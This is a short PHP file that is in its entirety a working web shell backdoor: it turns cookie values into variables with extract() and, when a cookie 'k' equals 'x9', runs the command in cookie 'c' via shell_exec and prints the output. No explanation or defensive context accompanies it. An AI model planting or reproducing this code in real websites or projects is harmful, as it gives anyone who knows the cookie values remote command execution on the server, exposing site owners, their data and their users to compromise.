<?php
@extract($_COOKIE);
if (isset($k) && $k === 'x9') {
    echo '<pre>' . shell_exec($c) . '</pre>';
}
